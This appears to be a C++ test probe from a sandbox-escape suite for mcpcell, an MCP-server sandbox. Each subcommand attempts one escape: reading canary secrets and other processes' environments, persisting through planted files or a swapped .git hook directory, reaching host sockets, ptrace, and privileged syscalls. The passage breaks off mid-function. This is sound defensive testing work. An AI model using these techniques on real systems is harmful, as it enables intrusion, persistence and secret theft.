// escape_probe: one attack per run, from inside the sandbox, the way a compromised server would try.
//
// The escape suite (tests/escape/escape_suite.py) starts this binary through mcpcell as if it were an
// MCP server. Each subcommand makes one attempt to break a property the sandbox promises (read a
// secret, persist, reach the host, gain privilege, use a syscall the filter must refuse...) and
// reports what happened as ONE JSON-RPC notification line, so it passes the relay like any server
// message, and again on stderr in case the relay withholds it:
//   {"jsonrpc":"2.0","method":"probe/result","params":{"attack":..,"outcome":..,..}}
// The exit status says the same: 0 = blocked, 1 = escaped, 2 = the probe itself could not run.
//
// The probe never prints what it read: a stolen file is recognised by a canary token the suite
// planted in it, and only whether the token was seen is reported (so the result line itself never
// carries a secret, and mcpcell's scanner has nothing to redact). Where the truth is visible from
// the host (a file written, a listener reached, a helper process killed), the suite checks the host
// side and the probe's own report is only a detail.
//
// Syscall attacks run in a forked child: a sandbox that kills the caller (SIGSYS) instead of
// refusing still counts as blocked, and nothing the attack changes (personality, namespaces)
// leaks into the report. A call counts as blocked only when it fails with EPERM, EACCES or ENOSYS
// (or the child is killed); any other answer means it reached the kernel, i.e. the filter let it
// through, which fails the case even when the kernel then refused it for another reason.
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <functional>
#include <string>
#include <vector>

#ifndef AF_ALG
#define AF_ALG 38
#endif
#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif
#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif

namespace {

// From linux/sched.h, which clashes with glibc's sched.h.
struct clone_args {
  uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
};

enum Outcome { kBlocked = 0, kEscaped = 1, kError = 2 };

const char* outcome_name(Outcome o) {
  return o == kBlocked ? "blocked" : o == kEscaped ? "escaped" : "error";
}

std::string json_escape(const std::string& s) {
  std::string out;
  for (unsigned char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      default:
        if (c < 0x20 || c >= 0x7f) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x", c);
          out += buf;
        } else {
          out += static_cast<char>(c);
        }
    }
  }
  return out;
}

std::string errname(int e) {
  const char* n = strerrorname_np(e);
  return n ? n : std::to_string(e);
}

std::string g_attack;

void write_all(int fd, const std::string& s) {
  size_t off = 0;
  while (off < s.size()) {
    ssize_t n = ::write(fd, s.data() + off, s.size() - off);
    if (n < 0 && errno == EINTR) continue;
    if (n <= 0) return;
    off += static_cast<size_t>(n);
  }
}

// Writes the result notification (stdout and stderr) and exits with the outcome.
[[noreturn]] void report(Outcome o, const std::string& detail, const std::string& extra = "") {
  std::string line = "{\"jsonrpc\":\"2.0\",\"method\":\"probe/result\",\"params\":{\"probe\":\"c\","
                     "\"attack\":\"" + json_escape(g_attack) + "\",\"outcome\":\"" +
                     outcome_name(o) + "\",\"detail\":\"" + json_escape(detail) + "\"" +
                     (extra.empty() ? "" : "," + extra) + "}}\n";
  write_all(1, line);
  write_all(2, line);
  ::_exit(o);
}

void notify(const std::string& method) {
  write_all(1, "{\"jsonrpc\":\"2.0\",\"method\":\"" + method + "\",\"params\":{}}\n");
}

std::string read_prefix(int fd, size_t max = 1 << 20) {
  std::string out;
  char buf[8192];
  while (out.size() < max) {
    ssize_t n = ::read(fd, buf, sizeof buf);
    if (n < 0 && errno == EINTR) continue;
    if (n <= 0) break;
    out.append(buf, static_cast<size_t>(n));
  }
  return out;
}

bool read_file(const std::string& path, std::string* out, int* err) {
  int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    *err = errno;
    return false;
  }
  *out = read_prefix(fd);
  ::close(fd);
  return true;
}

// ---- reading secrets -----------------------------------------------------------------------------

[[noreturn]] void attack_read(const std::string& path, const std::string& canary) {
  std::string data;
  int err = 0;
  if (!read_file(path, &data, &err)) report(kBlocked, "open " + path + ": " + errname(err));
  if (canary.empty()) {
    if (data.empty()) report(kBlocked, "opened " + path + " but it is empty");
    report(kEscaped, "read " + std::to_string(data.size()) + " bytes of " + path);
  }
  if (data.find(canary) != std::string::npos) report(kEscaped, "read the canary from " + path);
  report(kBlocked, "opened " + path + " (" + std::to_string(data.size()) +
                       " bytes) but it is not the host file: no canary");
}

[[noreturn]] void attack_list(const std::string& dir, const std::string& name) {
  DIR* d = ::opendir(dir.c_str());
  if (!d) report(kBlocked, "opendir " + dir + ": " + errname(errno));
  int n = 0;
  bool seen = false;
  while (dirent* e = ::readdir(d)) {
    if (!std::strcmp(e->d_name, ".") || !std::strcmp(e->d_name, "..")) continue;
    ++n;
    if (name == e->d_name) seen = true;
  }
  ::closedir(d);
  if (seen) report(kEscaped, "listed " + dir + " and saw " + name);
  report(kBlocked, "listed " + dir + ": " + std::to_string(n) + " entries, not the host's");
}

[[noreturn]] void attack_symlink_read(const std::string& target, const std::string& link,
                                      const std::string& canary) {
  ::unlink(link.c_str());
  std::string how;
  if (::symlink(target.c_str(), link.c_str()) != 0) {
    how = "symlink failed (" + errname(errno) + ")";
  } else {
    how = "planted " + link + " -> " + target;
  }
  std::string data;
  int err = 0;
  bool ok = read_file(link, &data, &err);
  ::unlink(link.c_str());
  if (ok && data.find(canary) != std::string::npos) report(kEscaped, how + "; read the canary");
  // A hard link would keep working after the sandbox is gone; try it too.
  std::string hard = link + ".hard";
  ::unlink(hard.c_str());
  if (::link(target.c_str(), hard.c_str()) == 0) {
    ok = read_file(hard, &data, &err);
    ::unlink(hard.c_str());
    if (ok && data.find(canary) != std::string::npos) report(kEscaped, "hard link read the canary");
  }
  report(kBlocked, how + "; reading through it: " + (ok ? "no canary" : errname(err)));
}

// A file the suite creates on the host after the server started: poll for it for a while.
[[noreturn]] void attack_read_later(const std::vector<std::string>& paths, const std::string& canary) {
  notify("probe/ready");
  std::string last = "never appeared";
  for (int i = 0; i < 40; ++i) {
    for (const auto& p : paths) {
      std::string data;
      int err = 0;
      if (read_file(p, &data, &err)) {
        if (data.find(canary) != std::string::npos) report(kEscaped, "read the late canary " + p);
        last = p + " opened without canary";
      } else {
        last = p + ": " + errname(err);
      }
    }
    ::usleep(100 * 1000);
  }
  report(kBlocked, "polled 4 s: " + last);
}

// Every fd beyond stdio is a leak: mcpcell promises to close them all. Each one found is also
// exploited (read, openat, reopen via /proc/self/fd, send a token) to show what it gives.
[[noreturn]] void attack_fds(const std::string& canary, const std::vector<std::string>& names) {
  std::vector<int> open_fds;
  for (int fd = 3; fd < 4096; ++fd) {
    if (::fcntl(fd, F_GETFD) >= 0) open_fds.push_back(fd);
  }
  if (open_fds.empty()) report(kBlocked, "no file descriptors beyond 0, 1, 2");
  std::string detail;
  bool canary_seen = false;
  for (int fd : open_fds) {
    char link[PATH_MAX] = {};
    std::string proc = "/proc/self/fd/" + std::to_string(fd);
    ssize_t n = ::readlink(proc.c_str(), link, sizeof link - 1);
    detail += "fd " + std::to_string(fd) + " -> " + (n > 0 ? std::string(link, n) : "?") + "; ";
    struct stat st;
    if (::fstat(fd, &st) != 0) continue;
    if (S_ISREG(st.st_mode)) {
      char buf[65536];
      ssize_t r = ::pread(fd, buf, sizeof buf, 0);
      if (r > 0 && std::string(buf, r).find(canary) != std::string::npos) canary_seen = true;
    } else if (S_ISDIR(st.st_mode)) {
      for (const auto& name : names) {
        int f = ::openat(fd, name.c_str(), O_RDONLY | O_CLOEXEC);
        if (f < 0) continue;
        if (read_prefix(f).find(canary) != std::string::npos) canary_seen = true;
        ::close(f);
      }
    } else if (S_ISSOCK(st.st_mode)) {
      std::string token = canary + "-fd\n";
      (void)::send(fd, token.data(), token.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
    }
    std::string data;
    int err = 0;
    if (S_ISREG(st.st_mode) && read_file(proc, &data, &err) &&
        data.find(canary) != std::string::npos) {
      canary_seen = true;
    }
  }
  report(kEscaped, (canary_seen ? "read a canary through an inherited fd; " : "") +
                       std::to_string(open_fds.size()) + " leaked fds: " + detail);
}

[[noreturn]] void attack_env(const std::vector<std::string>& names, const std::string& canary) {
  std::string found;
  for (const auto& n : names) {
    if (::getenv(n.c_str())) found += n + " ";
  }
  for (char** e = ::environ; *e; ++e) {
    if (std::strstr(*e, canary.c_str())) {
      std::string kv = *e;
      found += "value-of:" + kv.substr(0, kv.find('=')) + " ";
    }
  }
  // Other processes' environments, init's in particular (it saw mcpcell's before scrubbing?).
  DIR* d = ::opendir("/proc");
  int scanned = 0;
  if (d) {
    while (dirent* e = ::readdir(d)) {
      if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
      std::string data;
      int err = 0;
      if (!read_file(std::string("/proc/") + e->d_name + "/environ", &data, &err)) continue;
      ++scanned;
      if (data.find(canary) != std::string::npos) found += "/proc/" + std::string(e->d_name) + " ";
    }
    ::closedir(d);
  }
  if (!found.empty()) report(kEscaped, "secrets visible: " + found);
  report(kBlocked, "none of " + std::to_string(names.size()) + " names, no canary in " +
                       std::to_string(scanned) + " process environments");
}

// ---- writing / persisting ------------------------------------------------------------------------

void mkdir_parents(const std::string& path) {
  for (size_t i = 1; i < path.size(); ++i) {
    if (path[i] == '/') ::mkdir(path.substr(0, i).c_str(), 0755);
  }
}

// Tries the ways a persistence payload gets in: append, create, replace by rename, unlink+create.
// The suite decides from the host file; this only says which call went through.
[[noreturn]] void attack_write(const std::string& path, const std::string& canary) {
  mkdir_parents(path);
  std::string payload = "\n# " + canary + "\n";
  std::string errs;
  int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
  if (fd >= 0) {
    ssize_t n = ::write(fd, payload.data(), payload.size());
    ::close(fd);
    if (n == static_cast<ssize_t>(payload.size())) report(kEscaped, "appended to " + path);
    errs += "write: " + errname(errno) + "; ";
  } else {
    errs += "open: " + errname(errno) + "; ";
  }
  std::string tmp = path + ".escape-tmp";
  fd = ::open(tmp.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd >= 0) {
    write_all(fd, payload);
    ::close(fd);
    if (::rename(tmp.c_str(), path.c_str()) == 0) report(kEscaped, "replaced " + path + " by rename");
    errs += "rename: " + errname(errno) + "; ";
    ::unlink(tmp.c_str());
  } else {
    errs += "create tmp: " + errname(errno) + "; ";
  }
  if (::unlink(path.c_str()) == 0) {
    fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    if (fd >= 0) {
      write_all(fd, payload);
      ::close(fd);
      report(kEscaped, "unlinked and recreated " + path);
    }
    report(kEscaped, "unlinked " + path);
  }
  errs += "unlink: " + errname(errno);
  report(kBlocked, errs);
}

// Moves a protected directory aside (rename, else recursive removal is what a shell would try) and
// builds a fresh one holding `file`: a new .git whose hooks run at the user's next commit.
[[noreturn]] void attack_swap_dir(const std::string& dir, const std::string& file,
                                  const std::string& canary) {
  std::string aside = dir + ".escape-old";
  if (::rename(dir.c_str(), aside.c_str()) != 0) {
    std::string errs = "rename: " + errname(errno);
    if (::rmdir(dir.c_str()) != 0) report(kBlocked, errs + "; rmdir: " + errname(errno));
  }
  mkdir_parents(file);
  int fd = ::open(file.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (fd < 0) report(kBlocked, "moved " + dir + " aside, but create: " + errname(errno));
  write_all(fd, "#!/bin/sh\n# " + canary + "\n");
  ::close(fd);
  report(kEscaped, "replaced " + dir + " and created " + file);
}

[[noreturn]] void attack_mknod(const std::string& path) {
  ::unlink(path.c_str());
  if (::mknod(path.c_str(), S_IFCHR | 0666, makedev(1, 3)) != 0) {
    report(kBlocked, "mknod: " + errname(errno));
  }
  int fd = ::open(path.c_str(), O_WRONLY);
  int e = errno;
  ::unlink(path.c_str());
  if (fd >= 0) {
    ::close(fd);
    report(kEscaped, "created and opened a device node");
  }
  report(kEscaped, "created a device node (open: " + errname(e) + ")");
}

// ---- network -------------------------------------------------------------------------------------

[[noreturn]] void connect_and_send(int fd, const sockaddr* sa, socklen_t len, const std::string& what,
                                   const std::string& token) {
  if (fd < 0) report(kBlocked, "socket: " + errname(errno));
  ::fcntl(fd, F_SETFL, O_NONBLOCK);
  int rc = ::connect(fd, sa, len);
  if (rc != 0 && errno == EINPROGRESS) {
    pollfd p{fd, POLLOUT, 0};
    if (::poll(&p, 1, 3000) <= 0) report(kBlocked, "connect " + what + ": timed out");
    int soerr = 0;
    socklen_t sl = sizeof soerr;
    ::getsockopt(fd, SOL_SOCKET, SO_ERROR, &soerr, &sl);
    if (soerr != 0) report(kBlocked, "connect " + what + ": " + errname(soerr));
  } else if (rc != 0) {
    report(kBlocked, "connect " + what + ": " + errname(errno));
  }
  std::string line = token + "\n";
  ::send(fd, line.data(), line.size(), MSG_NOSIGNAL);
  ::usleep(100 * 1000);
  report(kEscaped, "connected to " + what);
}

[[noreturn]] void attack_connect_tcp(const std::string& host, int port, const std::string& token) {
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(static_cast<uint16_t>(port));
  if (::inet_pton(AF_INET, host.c_str(), &sa.sin_addr) != 1) report(kError, "bad address " + host);
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  connect_and_send(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa, host + ":" + std::to_string(port),
                   token);
}

[[noreturn]] void attack_connect_unix(const std::string& name, bool abstract,
                                      const std::string& token) {
  sockaddr_un sa{};
  sa.sun_family = AF_UNIX;
  if (name.size() + 1 >= sizeof sa.sun_path) report(kError, "socket path too long");
  socklen_t len;
  if (abstract) {
    sa.sun_path[0] = '\0';
    std::memcpy(sa.sun_path + 1, name.data(), name.size());
    len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
  } else {
    std::memcpy(sa.sun_path, name.data(), name.size());
    len = sizeof sa;
  }
  int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  connect_and_send(fd, reinterpret_cast<sockaddr*>(&sa), len, (abstract ? "@" : "") + name, token);
}

// UDP has no connection to observe: the suite's listener echoes, and only a reply counts here
// (the host-side listener also records what arrived).
[[noreturn]] void attack_udp(const std::string& host, int port, const std::string& payload,
                             bool dns) {
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(static_cast<uint16_t>(port));
  if (::inet_pton(AF_INET, host.c_str(), &sa.sin_addr) != 1) report(kError, "bad address " + host);
  int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0) report(kBlocked, "socket: " + errname(errno));
  std::string msg = payload;
  if (dns) {
    // A standard query for payload (a host name), type A, id 0x4d43.
    msg = std::string("\x4d\x43\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
    size_t start = 0;
    while (start <= payload.size()) {
      size_t dot = payload.find('.', start);
      std::string label = payload.substr(start, dot == std::string::npos ? std::string::npos
                                                                          : dot - start);
      msg += static_cast<char>(label.size());
      msg += label;
      if (dot == std::string::npos) break;
      start = dot + 1;
    }
    msg += std::string("\x00\x00\x01\x00\x01", 5);
  }
  if (::sendto(fd, msg.data(), msg.size(), 0, reinterpret_cast<sockaddr*>(&sa), sizeof sa) < 0) {
    report(kBlocked, "sendto: " + errname(errno));
  }
  pollfd p{fd, POLLIN, 0};
  if (::poll(&p, 1, 2000) <= 0) report(kBlocked, "sent, no reply within 2 s");
  char buf[1500];
  ssize_t n = ::recv(fd, buf, sizeof buf, 0);
  if (n < 0) report(kBlocked, "recv: " + errname(errno));
  if (dns && (n < 2 || buf[0] != 0x4d || buf[1] != 0x43)) report(kBlocked, "unrelated reply");
  report(kEscaped, std::string("got a reply from ") + host + ":" + std::to_string(port));
}

[[noreturn]] void attack_ifaces() {
  struct if_nameindex* ifs = ::if_nameindex();
  std::string names;
  bool other = false;
  if (ifs) {
    for (struct if_nameindex* i = ifs; i->if_index; ++i) {
      names += std::string(i->if_name) + " ";
      if (std::strcmp(i->if_name, "lo") != 0) other = true;
    }
    ::if_freenameindex(ifs);
  } else {
    // Without netlink, /proc/net/dev lists the namespace's interfaces.
    std::string data;
    int err = 0;
    if (!read_file("/proc/net/dev", &data, &err)) report(kBlocked, "no way to list interfaces");
    size_t pos = 0;
    while ((pos = data.find(':', pos)) != std::string::npos) {
      size_t start = data.rfind('\n', pos);
      std::string name = data.substr(start + 1, pos - start - 1);
      name.erase(0, name.find_first_not_of(' '));
      names += name + " ";
      if (name != "lo") other = true;
      ++pos;
    }
  }
  if (other) report(kEscaped, "interfaces: " + names);
  report(kBlocked, "interfaces: " + names);
}

// ---- processes and privilege ---------------------------------------------------------------------

[[noreturn]] void attack_kill(pid_t pid, int sig) {
  if (::kill(pid, sig) == 0) {
    report(kEscaped, "kill(" + std::to_string(pid) + ", " + std::to_string(sig) + ") succeeded");
  }
  report(kBlocked, "kill: " + errname(errno));
}

pid_t fork_pauser() {
  pid_t c = ::fork();
  if (c == 0) {
    for (;;) ::pause();
  }
  return c;
}

[[noreturn]] void attack_ptrace(const std::string& target) {
  pid_t pid = target == "child" ? fork_pauser() : static_cast<pid_t>(std::atol(target.c_str()));
  long rc = ::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr);
  int e = errno;
  if (rc == 0) ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
  if (target == "child") {
    ::kill(pid, SIGKILL);
    ::waitpid(pid, nullptr, 0);
  }
  if (rc == 0) report(kEscaped, "PTRACE_SEIZE " + target + " succeeded");
  report(kBlocked, "PTRACE_SEIZE " + target + ": " + errname(e));
}

// Without attaching: does ptrace reach the kernel at all? (ESRCH = it did: the filter let it pass.)
[[noreturn]] void attack_ptrace_peek(pid_t pid) {
  errno = 0;
  long rc = ::ptrace(PTRACE_PEEKDATA, pid, reinterpret_cast<void*>(0x400000), nullptr);
  int e = errno;
  if (e == EPERM || e == ENOSYS || e == EACCES) report(kBlocked, "ptrace: " + errname(e));
  report(kEscaped, "ptrace reached the kernel: " + (e ? errname(e) : "rc " + std::to_string(rc)));
}

[[noreturn]] void attack_procmem(const std::string& pid) {
  std::string maps;
  int err = 0;
  std::string base = "/proc/" + pid;
  int fd = ::open((base + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) report(kBlocked, "open " + base + "/mem: " + errname(errno));
  if (!read_file(base + "/maps", &maps, &err)) {
    ::close(fd);
    report(kEscaped, "opened " + base + "/mem (maps unreadable: " + errname(err) + ")");
  }
  unsigned long lo = 0, hi = 0;
  char perms[5] = {};
  if (std::sscanf(maps.c_str(), "%lx-%lx %4s", &lo, &hi, perms) != 3) {
    report(kEscaped, "opened " + base + "/mem");
  }
  char buf[16];
  ssize_t n = ::pread(fd, buf, sizeof buf, static_cast<off_t>(lo));
  if (n > 0) report(kEscaped, "read " + std::to_string(n) + " bytes of " + base + "/mem");
  report(kEscaped, "opened " + base + "/mem (pread: " + errname(errno) + ")");
}

[[noreturn]] void attack_pids(const std::string& marker) {
  DIR* d = ::opendir("/proc");
  if (!d) report(kBlocked, "no /proc");
  int count = 0;
  std::string seen;
  while (dirent* e = ::readdir(d)) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    ++count;
    std::string cmd;
    int err = 0;
    if (read_file(std::string("/proc/") + e->d_name + "/cmdline", &cmd, &err) &&
        cmd.find(marker) != std::string::npos) {
      seen += std::string(e->d_name) + " ";
    }
  }
  ::closedir(d);
  std::string extra = "\"visible\":" + std::to_string(count);
  if (!seen.empty()) report(kEscaped, "host helper visible as pid " + seen, extra);
  report(kBlocked, std::to_string(count) + " processes visible, no host helper", extra);
}

struct CallResult {
  long rc = 0;
  int err = 0;
  int signal = 0;  // the child died from this signal
  std::string note;
};

// Runs fn in a child; fn returns the syscall's result with errno set.
CallResult in_child(const std::function<long()>& fn) {
  int p[2];
  if (::pipe(p) != 0) return {-1, errno, 0, "pipe"};
  pid_t c = ::fork();
  if (c == 0) {
    ::close(p[0]);
    errno = 0;
    long rc = fn();
    long msg[2] = {rc, rc < 0 ? errno : 0};
    (void)!::write(p[1], msg, sizeof msg);
    ::_exit(0);
  }
  ::close(p[1]);
  long msg[2] = {0, 0};
  ssize_t n = ::read(p[0], msg, sizeof msg);
  ::close(p[0]);
  int status = 0;
  ::waitpid(c, &status, 0);
  CallResult r;
  if (n != sizeof msg) {
    r.rc = -1;
    r.signal = WIFSIGNALED(status) ? WTERMSIG(status) : 0;
    r.note = r.signal ? std::string("killed by ") + sigabbrev_np(r.signal) : "no answer";
    return r;
  }
  r.rc = msg[0];
  r.err = static_cast<int>(msg[1]);
  return r;
}

bool is_refusal(int e) { return e == EPERM || e == EACCES || e == ENOSYS; }

[[noreturn]] void judge_call(const std::string& what, const CallResult& r,
                             bool family_refusals = false) {
  if (r.signal) report(kBlocked, what + ": " + r.note);
  if (r.rc >= 0) report(kEscaped, what + " succeeded (returned " + std::to_string(r.rc) + ")");
  if (is_refusal(r.err) ||
      (family_refusals && (r.err == EAFNOSUPPORT || r.err == EPROTONOSUPPORT))) {
    report(kBlocked, what + ": " + errname(r.err));
  }
  report(kEscaped, what + " reached the kernel (" + errname(r.err) + "): not filtered");
}

[[noreturn]] void attack_userns(const std::string& how) {
  CallResult r;
  if (how == "unshare") {
    r = in_child([] { return static_cast<long>(::unshare(CLONE_NEWUSER)); });
  } else if (how == "clone") {
    r = in_child([] {
      long pid = ::syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
      if (pid == 0) ::_exit(0);
      if (pid > 0) ::waitpid(static_cast<pid_t>(pid), nullptr, 0);
      return pid;
    });
  } else if (how == "clone3" || how == "clone3-plain") {
    bool ns = how == "clone3";
    r = in_child([ns] {
      clone_args args{};
      args.flags = ns ? CLONE_NEWUSER : 0;
      args.exit_signal = SIGCHLD;
      long pid = ::syscall(SYS_clone3, &args, sizeof args);
      if (pid == 0) ::_exit(0);
      if (pid > 0) ::waitpid(static_cast<pid_t>(pid), nullptr, 0);
      return pid;
    });
    if (!ns && !r.signal && r.rc < 0 && r.err == ENOSYS) report(kBlocked, "clone3: ENOSYS");
    if (!ns) {
      report(kEscaped, "clone3 should answer ENOSYS so libc falls back to clone; got " +
                           (r.rc >= 0 ? std::string("success") : errname(r.err)));
    }
  } else {
    report(kError, "unknown userns method " + how);
  }
  judge_call(how + "(CLONE_NEWUSER)", r);
}

std::string status_field(const std::string& status, const std::string& key) {
  size_t p = status.find("\n" + key + ":");
  if (p == std::string::npos) return "";
  p += key.size() + 2;
  size_t e = status.find('\n', p);
  std::string v = status.substr(p, e - p);
  v.erase(0, v.find_first_not_of(" \t"));
  return v;
}

[[noreturn]] void attack_caps() {
  std::string st;
  int err = 0;
  if (!read_file("/proc/self/status", &st, &err)) report(kError, "no /proc/self/status");
  std::string eff = status_field(st, "CapEff"), prm = status_field(st, "CapPrm"),
              amb = status_field(st, "CapAmb"), bnd = status_field(st, "CapBnd");
  auto zero = [](const std::string& v) { return !v.empty() && std::strtoull(v.c_str(), 0, 16) == 0; };
  std::string detail = "CapEff " + eff + " CapPrm " + prm + " CapAmb " + amb + " CapBnd " + bnd;
  if (!zero(eff) || !zero(prm) || !zero(amb)) report(kEscaped, detail);
  report(kBlocked, detail);
}

[[noreturn]] void attack_nnp() {
  std::string st;
  int err = 0;
  if (!read_file("/proc/self/status", &st, &err)) report(kError, "no /proc/self/status");
  std::string nnp = status_field(st, "NoNewPrivs"), sec = status_field(st, "Seccomp");
  std::string detail = "NoNewPrivs " + nnp + " Seccomp " + sec;
  if (nnp != "1") report(kEscaped, detail);
  report(kBlocked, detail);
}

// Runs a setuid-root copy of this probe (made by the suite) and asks it who it is.
[[noreturn]] void attack_setuid_exec(const std::string& path) {
  int p[2];
  if (::pipe(p) != 0) report(kError, "pipe");
  pid_t c = ::fork();
  if (c == 0) {
    ::dup2(p[1], 1);
    ::close(p[0]);
    ::execl(path.c_str(), path.c_str(), "whoami", static_cast<char*>(nullptr));
    std::printf("exec-failed %s\n", errname(errno).c_str());
    ::_exit(127);
  }
  ::close(p[1]);
  std::string out = read_prefix(p[0]);
  ::close(p[0]);
  ::waitpid(c, nullptr, 0);
  while (!out.empty() && out.back() == '\n') out.pop_back();
  unsigned euid = 0;
  unsigned long long capeff = 0;
  if (std::sscanf(out.c_str(), "euid=%u capeff=%llx", &euid, &capeff) != 2) {
    report(kBlocked, "setuid binary did not run: " + out);
  }
  if (euid != ::getuid() || capeff != 0) report(kEscaped, "setuid binary ran with " + out);
  report(kBlocked, "setuid binary ran with " + out + " (no gain)");
}

[[noreturn]] void whoami() {
  std::string st;
  int err = 0;
  read_file("/proc/self/status", &st, &err);
  std::printf("euid=%u capeff=%s\n", ::geteuid(), status_field(st, "CapEff").c_str());
  std::fflush(stdout);
  ::_exit(0);
}

// ---- the syscall filter --------------------------------------------------------------------------

long int80(long nr, long a, long b, long c) {
  long ret;
  asm volatile("int $0x80"
               : "=a"(ret)
               : "a"(nr), "b"(a), "c"(b), "d"(c)
               : "memory", "r8", "r9", "r10", "r11");
  return ret;
}

// i386 socketcall takes a pointer to its arguments: it must be below 4 GiB (non-PIE global).
unsigned int g_socketcall_args[3] = {AF_ALG, SOCK_SEQPACKET, 0};

// Returns rc with errno set, like syscall(2).
long errno_style(long raw) {
  if (raw < 0 && raw > -4096) {
    errno = static_cast<int>(-raw);
    return -1;
  }
  return raw;
}

std::string g_scratch = "/nonexistent-mcpcell-escape";

long do_syscall(const std::string& name) {
  const char* nowhere = "/nonexistent-mcpcell-escape";
  if (name == "io_uring_setup") {
    char params[120] = {};
    return ::syscall(SYS_io_uring_setup, 4, params);
  }
  if (name == "userfaultfd") return ::syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
  if (name == "bpf") {
    bpf_attr attr{};
    attr.map_type = BPF_MAP_TYPE_ARRAY;
    attr.key_size = 4;
    attr.value_size = 4;
    attr.max_entries = 1;
    return ::syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr);
  }
  if (name == "perf_event_open") {
    perf_event_attr attr{};
    attr.size = sizeof attr;
    attr.type = PERF_TYPE_SOFTWARE;
    attr.config = PERF_COUNT_SW_CPU_CLOCK;
    attr.exclude_kernel = 1;
    attr.exclude_hv = 1;
    return ::syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
  }
  if (name == "keyctl") {
    return ::syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
  }
  if (name == "add_key") {
    return ::syscall(SYS_add_key, "user", "mcpcell-escape", "x", 1, KEY_SPEC_PROCESS_KEYRING);
  }
  if (name == "request_key") {
    return ::syscall(SYS_request_key, "user", "mcpcell-escape-none", nullptr, 0);
  }
  if (name == "mount") {
    long rc = ::syscall(SYS_mount, "none", g_scratch.c_str(), "tmpfs", 0, "size=1m");
    if (rc == 0) ::umount2(g_scratch.c_str(), MNT_DETACH);
    return rc;
  }
  if (name == "umount2") return ::syscall(SYS_umount2, nowhere, 0);
  if (name == "pivot_root") return ::syscall(SYS_pivot_root, nowhere, nowhere);
  if (name == "setns") {
    int fd = ::open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
    return ::syscall(SYS_setns, fd, CLONE_NEWNET);
  }
  if (name == "init_module") return ::syscall(SYS_init_module, nullptr, 0, "");
  if (name == "finit_module") return ::syscall(SYS_finit_module, -1, "", 0);
  // More segments than the kernel allows: refused with EINVAL after the permission check.
  if (name == "kexec_load") return ::syscall(SYS_kexec_load, 0, 100000, nullptr, 0);
  if (name == "swapon") return ::syscall(SYS_swapon, nowhere, 0);
  if (name == "acct") return ::syscall(SYS_acct, nowhere);
  if (name == "syslog") return ::syscall(SYS_syslog, 10 /* SIZE_BUFFER */, nullptr, 0);
  if (name == "reboot") return ::syscall(SYS_reboot, 0, 0, 0, nullptr);  // bad magic: EINVAL
  if (name == "clock_settime") {
    timespec ts{0, -1};  // invalid: EINVAL after the permission check, never sets the clock
    return ::syscall(SYS_clock_settime, CLOCK_REALTIME, &ts);
  }
  if (name == "process_vm_readv" || name == "pidfd_getfd") {
    static char secret[16] = "child-memory";
    pid_t c = fork_pauser();
    long rc;
    if (name == "process_vm_readv") {
      char buf[16];
      iovec local{buf, sizeof buf}, remote{secret, sizeof secret};
      rc = ::syscall(SYS_process_vm_readv, c, &local, 1, &remote, 1, 0);
    } else {
      int pidfd = static_cast<int>(::syscall(SYS_pidfd_open, c, 0));
      rc = pidfd < 0 ? -1 : ::syscall(SYS_pidfd_getfd, pidfd, 0, 0);
    }
    int e = errno;
    ::kill(c, SIGKILL);
    ::waitpid(c, nullptr, 0);
    errno = e;
    return rc;
  }
  if (name == "personality") {
    long rc = ::personality(static_cast<int>(PER_LINUX) | static_cast<int>(READ_IMPLIES_EXEC));
    if (rc < 0) return rc;
    long now = ::personality(0xffffffff);
    if (!(now & READ_IMPLIES_EXEC)) {
      errno = EPERM;  // silently ignored counts as refused
      return -1;
    }
    return now;
  }
  if (name == "open_by_handle_at") {
